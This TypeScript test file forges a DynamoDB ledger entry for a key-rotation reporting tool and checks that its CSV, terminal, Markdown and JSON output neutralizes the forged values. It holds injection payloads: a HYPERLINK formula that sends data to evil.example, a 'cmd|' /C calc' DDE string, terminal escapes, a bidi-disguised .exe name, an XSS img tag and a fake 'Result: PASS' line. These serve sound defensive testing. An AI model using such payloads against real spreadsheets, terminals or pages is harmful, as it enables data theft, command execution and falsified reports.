/**
 * A ledger entry forged by someone who may write the table (dynamodb:* on it):
 * spreadsheet formulas, terminal escapes, bidi overrides and Markdown syntax
 * in the values the report prints. Deployed and reported through the real
 * SDK clients, the KMS simulator and a local DynamoDB; each output format
 * shows the forged values neutralized, JSON shows them exactly.
 */
import { execFile } from 'node:child_process';
import * as path from 'node:path';
import { promisify } from 'node:util';
import { DynamoDBDocumentClient, GetCommand, PutCommand } from '@aws-sdk/lib-dynamodb';
import { GroupReport, renderReports, reportGroup } from '../../lambda/report';
import { hasInvisible } from '../../lambda/report/safe-text';
import { Harness, REGION, SIMULATOR_CREDENTIALS } from '../rotation/harness';

const CLI = path.join(__dirname, '..', '..', 'assets', 'lambda', 'cli', 'index.js');
const ESC = '\u001b';
const RLO = '\u202e';

/** What the attacker writes into generation 1 of the entry. */
const FORGED = {
  // The report's Source column is the description's `source:` word.
  source: '=HYPERLINK("http://evil.example/?"&A1,"Verified")',
  bucket: '@SUM(1+1)',
  key: `k|x\`y[click](http://evil.example)<img src=x onerror=alert(1)>${ESC}[2J${ESC}]8;;http://evil.example${ESC}\\${RLO}txt.exe`,
  versionId: '-2+3+cmd|\' /C calc\'!A0',
  keyMaterialId: `+1${ESC}[31m\n- Result: PASS`,
};

/** One CSV record's fields per RFC 4180 (the records here hold no line breaks). */
function csvFields(line: string): string[] {
  return [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g)].map((m) => (m[1] !== undefined ? m[1].replace(/""/g, '"') : m[2]));
}

describe('the report of a forged ledger entry', () => {
  let h: Harness;
  let report: GroupReport;
  beforeAll(async () => {
    h = await Harness.start();
    await h.deploy(h.functions());
    const doc = DynamoDBDocumentClient.from(h.db.client());
    const key = { pk: 'group#telemetry-group', sk: 'state' };
    const item = (await doc.send(new GetCommand({ TableName: h.tableName, Key: key }))).Item!;
    const g1 = item.generations[0];
    await doc.send(new PutCommand({
      TableName: h.tableName,
      Item: {
        ...item,
        generations: [{
          ...g1,
          keyMaterialDescription: `rotation group:telemetry-group generation:1 source:${FORGED.source}`,
          keyMaterialId: FORGED.keyMaterialId,
          escrow: {
            bucket: FORGED.bucket,
            key: FORGED.key,
            versionId: FORGED.versionId,
            sha256: 'x',
            writtenAt: g1.claimedAt,
            wrapping: 'RSAES_OAEP_SHA_256',
            fingerprint: 'f',
            keyMaterialId: 'm',
          },
        }],
      },
    }));
    report = await reportGroup({ kms: h.kms, dynamodb: h.db.client(), tableName: h.tableName, aliasName: 'alias/telemetry', now: h.sim.clock.now() });
  });
  afterAll(async () => h.stop());

  test('the report carries the forged values (and flags the edited material id)', () => {
    expect(report.generations[0]).toMatchObject({
      source: FORGED.source,
      keyMaterialId: FORGED.keyMaterialId,
      escrow: { bucket: FORGED.bucket, key: FORGED.key, versionId: FORGED.versionId },
    });
    expect(report.findings.map((f) => f.code)).toContain('ledger-disagrees-with-log');
  });

  test('csv: formulas start with a single quote, controls are visible, each value stays one field of one record', () => {
    const out = renderReports([report], 'csv');
    expect(hasInvisible(out.replace(/\n/g, ''))).toBe(false);
    const [header, row, ...rest] = out.split('\n');
    expect(rest).toEqual(['']);
    const fields = csvFields(header);
    const cells = Object.fromEntries(csvFields(row).map((v, i) => [fields[i], v]));
    expect(csvFields(row)).toHaveLength(fields.length);
    expect(cells).toMatchObject({
      source: `'${FORGED.source}`,
      escrow_bucket: `'${FORGED.bucket}`,
      escrow_version_id: `'${FORGED.versionId}`,
      key_material_id: '\'+1\\u001b[31m\\u000a- Result: PASS',
      escrow_key: 'k|x`y[click](http://evil.example)<img src=x onerror=alert(1)>\\u001b[2J\\u001b]8;;http://evil.example\\u001b\\\\u202etxt.exe',
    });
    // RFC 4180: the field with quotes is quoted, its quotes doubled.
    expect(row).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""Verified"")"');
  });

  test('table: no escape sequence or bidi override reaches the terminal; the forged text is shown escaped', () => {
    const out = renderReports([report], 'table');
    expect(hasInvisible(out.replace(/\n/g, ''))).toBe(false);
    expect(out).toContain('\\u001b[2J\\u001b]8;;http://evil.example\\u001b\\\\u202etxt.exe');
    expect(out).toContain('\\u001b[31m\\u000a- Result: PASS');
    // One line per generation: the forged line break did not split the row.
    expect(out.split('\n').filter((l) => l.startsWith('│ 1 '))).toHaveLength(1);
  });

  test('md: the row keeps its 14 cells, and no link, HTML, code span or list item is injected', () => {
    const out = renderReports([report], 'md');
    expect(hasInvisible(out.replace(/\n/g, ''))).toBe(false);
    const row = out.split('\n').find((l) => l.startsWith('| 1 |'))!;
    expect(row.slice(1, -1).split(/(?<!\\)\|/)).toHaveLength(14);
    expect(row).toContain('\\`y\\[click\\](http://evil.example)\\<img src=x onerror=alert(1)\\>\\\\u001b\\[2J');
    expect(row).toContain(`| ${FORGED.source.replace('&', '\\&')} |`);
    // Each finding quoting the forged material id (against the event log, against KMS) is one list item, its line break visible.
    const items = out.split('\n').filter((l) => l.startsWith('- '));
    const quoting = items.filter((l) => l.includes('Result: PASS'));
    expect(quoting.length).toBeGreaterThanOrEqual(1);
    for (const l of quoting) expect(l).toContain('+1\\\\u001b\\[31m\\\\u000a- Result: PASS');
    expect(items.at(-1)).toMatch(/^- Result: FAIL/);
  });

  test('json: exact (parses back to the forged strings), with the bidi override written as an escape', () => {
    const out = renderReports([report], 'json');
    const g1 = JSON.parse(out)[0].generations[0];
    expect(g1).toMatchObject({ source: FORGED.source, keyMaterialId: FORGED.keyMaterialId, escrow: { key: FORGED.key } });
    expect(out).not.toContain(RLO);
    expect(out).toContain('\\u001b]8;;http://evil.example\\u001b\\\\\\u202etxt.exe');
  });

  test('the shipped command-line tool prints the same neutralized CSV', async () => {
    const args = ['report', '--alias', 'alias/telemetry', '--format', 'csv', '--at', report.generatedAt];
    const run = await promisify(execFile)(process.execPath, [CLI, ...args], {
      env: {
        PATH: process.env.PATH ?? '',
        AWS_REGION: REGION,
        AWS_ACCESS_KEY_ID: SIMULATOR_CREDENTIALS.accessKeyId,
        AWS_SECRET_ACCESS_KEY: SIMULATOR_CREDENTIALS.secretAccessKey,
        AWS_ENDPOINT_URL_KMS: h.sim.endpoint,
        AWS_ENDPOINT_URL_DYNAMODB: h.db.endpoint,
        CDK_ROTATING_IMPORTED_KEY_TABLE: h.tableName,
      },
    }).then(() => { throw new Error('the report of a forged entry passed'); }, (e: { code: number; stdout: string }) => e);
    expect(run.code).toBe(1);
    expect(run.stdout).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""Verified"")"');
    expect(run.stdout).toBe(renderReports([report], 'csv'));
  });
});
